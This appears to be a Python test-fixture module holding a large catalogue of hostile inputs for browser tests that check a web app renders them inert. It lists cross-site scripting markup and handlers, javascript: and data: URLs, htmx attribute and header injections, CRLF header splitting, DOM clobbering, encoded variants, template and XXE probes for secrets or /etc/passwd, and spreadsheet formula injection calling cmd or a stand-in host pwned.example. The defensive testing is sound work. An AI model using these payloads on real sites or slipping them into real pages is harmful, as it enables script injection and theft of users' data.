"""Texts that would like to be more than text: markup, handlers, addresses, htmx, ends of attributes, scripts and files.

What one of them makes would carry the word `pwned` or one of `ATTRIBUTES`, would ask for an address with `pwned` in it,
or would open a dialog: tests/browser/test_hostile_words.py looks for all of these.
"""

from itertools import product

HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle"),
    *("onbeforetoggle", "oncontentvisibilityautostatechange", "onscrollend", "onwheel"),
)
#: Elements, and what makes their handler run by itself.
ELEMENTS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("marquee", "onstart"),
    ("isindex autofocus", "onfocus"),
    ("x-pwned tabindex=1 style=display:block", "onfocus"),
)
#: Ends of whatever the text may stand in.
ENDS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "`>", "</option></select>")

MARKUP = [f"{end}<{element} {handler}=alert(1) class=pwned>" for (element, handler), end in product(ELEMENTS, ENDS[:6])]
IN_ATTRIBUTES = [
    f"{quote} {handler}={quote}alert(1){quote} class={quote}pwned"
    for handler, quote in product(HANDLERS, ('"', "'", "`"))
]
SCRIPTS = [
    "<script class=pwned>alert(1)</script>",
    "<script class=pwned src=//pwned.example/x.js></script>",
    "<ScRiPt class=pwned>alert(1)</sCrIpT>",
    "<script class=pwned>alert(1)//",
    "<<script class=pwned>alert(1)//<</script>",
    "<scr<script>ipt class=pwned>alert(1)</scr</script>ipt>",
    "<script\x0cclass=pwned>alert(1)</script>",
    "<script type=module class=pwned>import('/pwned.js')</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1) class=pwned>'>",
    "<template><script class=pwned>alert(1)</script></template>",
    "</script><script class=pwned>alert(1)</script>",
    "'-alert(1)-'",
    "\\'-alert(1)//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "\u2028alert(1)//",
    "</script\x20><svg onload=alert(1) class=pwned>",
]
TEMPLATES = [
    "{% load static %}{% csrf_token %}",
    "{{ settings.SECRET_KEY }}{{ request.user.password }}",
    "{% include '/etc/passwd' %}",
    "{{ 7|add:7 }}{% debug %}",
    "{first_name.__class__}{0.__init__.__globals__}",
    "%(password)s %n %s %x",
]
ADDRESSES = [
    "javascript:alert(1)//pwned",
    "JaVaScRiPt:alert(1)",
    " java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//pwned.example/x",
    "https://pwned.example/x.png",
    "<a class=pwned href=javascript:alert(1)>x</a>",
    "<a class=pwned href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<form class=pwned action=//pwned.example><button>x",
    "<button class=pwned form=bulk formaction=//pwned.example>x",
    "<base href=//pwned.example class=pwned>",
    '<meta http-equiv=refresh content="0;url=//pwned.example" class=pwned>',
    "<link rel=prefetch href=//pwned.example class=pwned>",
    "<img src=//pwned.example/x.png class=pwned>",
    "<img src='//pwned.example/?",
    "<table background=//pwned.example class=pwned>",
    "<style class=pwned>@import '//pwned.example/x.css';</style>",
    "<div class=pwned style=background:url(//pwned.example)>",
    "<iframe class=pwned srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe class=pwned src=javascript:alert(1)></iframe>",
    "<object class=pwned data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<svg class=pwned><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg class=pwned><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "<svg class=pwned><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg class=pwned><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<math class=pwned href=javascript:alert(1)>x</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1) class=pwned>'>",
    "<portal class=pwned src=//pwned.example>",
]
HTMX = [
    "<div class=pwned hx-get=/pwned hx-trigger=load></div>",
    "<div class=pwned hx-post=/pwned hx-trigger='every 1s'></div>",
    "<div class=pwned data-hx-get=/pwned data-hx-trigger=load></div>",
    "<div class=pwned hx-get=//pwned.example hx-trigger=revealed></div>",
    "<div class=pwned hx-on:htmx:load='alert(1)'></div>",
    "<div class=pwned hx-on::load='alert(1)'></div>",
    "<div class=pwned hx-vals='js:{x:alert(1)}' hx-get=/pwned hx-trigger=load></div>",
    "<div class=pwned hx-headers='javascript:{x:alert(1)}' hx-get=/pwned hx-trigger=load></div>",
    "<div class=pwned hx-trigger='load[alert(1)]' hx-get=/pwned></div>",
    "<div class=pwned hx-boost=true><a href=//pwned.example>x</a></div>",
    "<div class=pwned hx-swap-oob=true id=main>pwned</div>",
    "<div class=pwned hx-select-oob=#main:innerHTML hx-get=/pwned hx-trigger=load></div>",
    "<div class=pwned hx-ext=pwned></div>",
    "<div class=pwned hx-disinherit=* hx-target=body hx-get=/pwned hx-trigger=load></div>",
    '" hx-get="/pwned" hx-trigger="load" class="pwned',
    "' hx-get='/pwned' hx-trigger='load' class='pwned",
    '" hx-on:click="alert(1)" class="pwned',
    '" autofocus hx-trigger="focus" hx-post="/pwned" class="pwned',
    '"><meta name="htmx-config" content=\'{"allowEval":true}\' class=pwned>',
    "<template hx-swap-oob=true class=pwned><script>alert(1)</script></template>",
    "HX-Redirect: //pwned.example",
    "x\r\nHX-Redirect: //pwned.example\r\n\r\n<script class=pwned>alert(1)</script>",
    "x\r\nSet-Cookie: pwned=1",
]
CLOBBERS = [
    "<form id=bulk class=pwned><input name=action>",
    "<a id=htmx class=pwned><a id=htmx name=config>",
    "<img name=getElementById class=pwned>",
    "<div id=messages class=pwned>",
    "<input name=csrfmiddlewaretoken value=pwned class=pwned>",
    "<div popover id=me class=pwned>",
    "__proto__",
    "constructor",
]
ENCODED = [
    "&lt;script class=pwned&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1) class=pwned&#62;",
    "%3Cscript%20class=pwned%3Ealert(1)%3C/script%3E",
    "%253Cimg src=x onerror=alert(1)%253E",
    "\\u003cimg src=x onerror=alert(1) class=pwned\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜img src=x onerror=alert(1) class=pwned＞",
    "‹script class=pwned›alert(1)‹/script›",
    "+ADw-script class=pwned+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "<img/src='x'/onerror=alert(1)/class=pwned>",
    "<img\tsrc=x\nonerror\r=\nalert(1) class=pwned>",
    "<img src=x onerror=&#97;lert(1) class=pwned>",
    "<IMG SRC=X ONERROR=ALERT(1) CLASS=PWNED>",
    "<ıframe class=pwned onload=alert(1)>",
    "\u202e>derewop=ssalc gmi<",
    "\u2066<b class=pwned>\u2069",
    "\x1b[31m<b class=pwned>red</b>",
    "<b class=pwned>" + "x" * 60,
    "<!--<img src=x onerror=alert(1) class=pwned>-->",
    "<![CDATA[<img src=x onerror=alert(1) class=pwned>]]>",
    "<?xml version='1.0'?><x class=pwned>",
    "<!ENTITY pwned SYSTEM 'file:///etc/passwd'>&pwned;",
]
FORMULAS = [
    '=HYPERLINK("//pwned.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=<img src=x onerror=alert(1) class=pwned>",
]

PAYLOADS = [
    *MARKUP,
    *IN_ATTRIBUTES,
    *SCRIPTS,
    *TEMPLATES,
    *ADDRESSES,
    *HTMX,
    *CLOBBERS,
    *ENCODED,
    *FORMULAS,
]


def short(length: int) -> list[str]:
    """Those that fit into so many letters whole: cut off they would prove nothing."""
    return [each for each in PAYLOADS if len(each) <= length]
